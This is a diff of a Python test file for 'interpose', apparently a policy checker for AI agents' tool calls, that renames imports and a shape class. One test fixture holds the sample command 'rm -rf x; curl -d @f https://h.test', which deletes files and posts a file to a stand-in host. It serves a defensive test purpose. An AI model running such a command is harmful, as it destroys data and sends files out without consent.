@@ -7,11 +7,11 @@ from typing import Any
 import pytest
 
 from interpose import Context, ToolCall
-from interpose.policy.hosts import host_of
+from interpose.cel.runtime_values import EvaluationError
+from interpose.cel.variable_shapes import FixedMap, Listing
 from interpose.policy.imported_variables import ImportedVariables
-from interpose.policy.results import replace_texts, text_of_result
-from interpose.policy.shapes import Listing, Record
-from interpose.policy.values import EvaluationError
+from interpose.policy.result_texts import replace_texts, text_of_result
+from interpose.policy.url_hosts import host_of
 from interpose.policy.variables import READERS, VARIABLES, Variables
 from interpose.tools import canonical
 from interpose.types import ToolOutcome, freeze
@@ -29,9 +29,9 @@ def test_what_is_declared_is_there(name: str, tool: str) -> None:
     """The checker trusts the table: every field that it names exists, and no other."""
     seen = variables(tool, command="rm -rf x; curl -d @f https://h.test", path="x")[name]
     shape = VARIABLES[name]
-    if isinstance(shape, Record):
+    if isinstance(shape, FixedMap):
         assert seen.keys() == shape.fields.keys()
-    if isinstance(shape, Listing) and isinstance(shape.of, Record):
+    if isinstance(shape, Listing) and isinstance(shape.of, FixedMap):
         assert all(item.keys() == shape.of.fields.keys() for item in seen)
         assert seen or tool != "exec"
 
